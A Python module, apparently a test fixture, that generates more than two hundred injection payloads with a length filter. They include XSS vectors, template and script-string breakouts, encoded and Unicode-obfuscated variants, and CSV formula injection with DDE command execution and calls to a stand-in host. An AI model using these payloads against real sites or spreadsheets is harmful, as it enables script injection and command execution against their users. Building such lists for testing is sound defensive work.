"""Two hundred and more texts that would do harm where a page took them for something else than text."""

from itertools import product

ACT = "__xss=1"
_MARKUP = (
    f"<script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg/onload={ACT}//",
    f"<body onload={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<details open ontoggle={ACT}>",
    f"<video src=x onerror={ACT}>",
    f"<audio src onerror={ACT}>",
    f"<iframe srcdoc='<b onclick={ACT}>'>",
    f"<iframe src=javascript:{ACT}>",
    f"<object data=javascript:{ACT}>",
    f"<embed src=javascript:{ACT}>",
    f"<a href=javascript:{ACT}>x</a>",
    f"<a autofocus onfocus={ACT} href=#>x</a>",
    f"<form action=javascript:{ACT}><button>x",
    f"<button formaction=javascript:{ACT}>x",
    f"<select autofocus onfocus={ACT}>",
    f"<textarea autofocus onfocus={ACT}>",
    f"<marquee onstart={ACT}>x",
    f"<style onload={ACT}></style>",
    f"<svg><animate onbegin={ACT}>",
    f"<svg><set onbegin={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<math href=javascript:{ACT}>x",
    f"<p onpointerenter={ACT}>x",
    f"<p style=animation:x onanimationstart={ACT}>",
    "<script src=//x.example/a.js></script>",
    "<img src=//x.example/a.png>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
)
_WAYS_OUT = ("", '">', "'>", "</title>", "-->", "</textarea>")
_URLS = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f" javascript:{ACT}",
    f"javascript://x.example/%0a{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+",
    f"vbscript:{ACT}",
    "//x.example/",
    "/\\x.example/",
)
_BRACES = (
    "{{constructor.constructor('__xss=1')()}}",
    "{{ 7 * 7 }}",
    "${__xss=1}",
    "#{__xss=1}",
    "<%= __xss=1 %>",
    "[[__xss=1]]",
    "$t(title)",
    "{count, plural, one {x}}",
)
_ENCODED = (
    "&lt;img src=x onerror=__xss=1&gt;",
    "&#60;svg onload=__xss=1&#62;",
    "&#x3c;svg onload=__xss=1&#x3e;",
    "\\u003csvg onload=__xss=1\\u003e",
    "\\x3csvg onload=__xss=1\\x3e",
    "%3Csvg%20onload=__xss=1%3E",
    "+ADw-script+AD4-__xss=1+ADw-/script+AD4-",
)
_UNICODE = (
    "＜svg onload=__xss=1＞",
    "\u202e<svg onload=__xss=1>",
    "<s\u200bvg onload=__xss=1>",
    "<ſvg onload=__xss=1>",
    "<İmg src=x onerror=__xss=1>",
    "\ufeff<svg onload=__xss=1>",
    "\u2028__xss=1\u2029",
    "<a\u0301\u0301\u0301\u0301\u0301\u0301 onfocus=__xss=1>",
)
_BREAKERS = (
    "';__xss=1;//",
    '";__xss=1;//',
    "`;__xss=1;//",
    '"}};__xss=1;//',
    "</script><script>__xss=1</script>",
    "*/__xss=1/*",
    "\\';__xss=1;//",
    '" onfocus=__xss=1 autofocus x="',
    "' onfocus=__xss=1 autofocus x='",
    "x onfocus=__xss=1 autofocus",
    "[x](javascript:__xss=1)",
    "![x](//x.example/a.png)",
    "<!--<img src='--><img src=x onerror=__xss=1>",
    "<![CDATA[<svg onload=__xss=1>]]>",
    "__proto__",
    "constructor",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://x.example","x")',
    '=IMPORTXML("http://x.example","//a")',
    '=WEBSERVICE("http://x.example")',
)
#: All distinct; none is longer than the shortest name that takes a hundred letters.
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [out + markup for out, markup in product(_WAYS_OUT, _MARKUP)]
        + [*_URLS, *_BRACES, *_ENCODED, *_UNICODE, *_BREAKERS, *FORMULAS]
    )
)


def within(length: int) -> list[str]:
    """Those that fit into a field of so many letters."""
    return [payload for payload in PAYLOADS if len(payload) <= length]
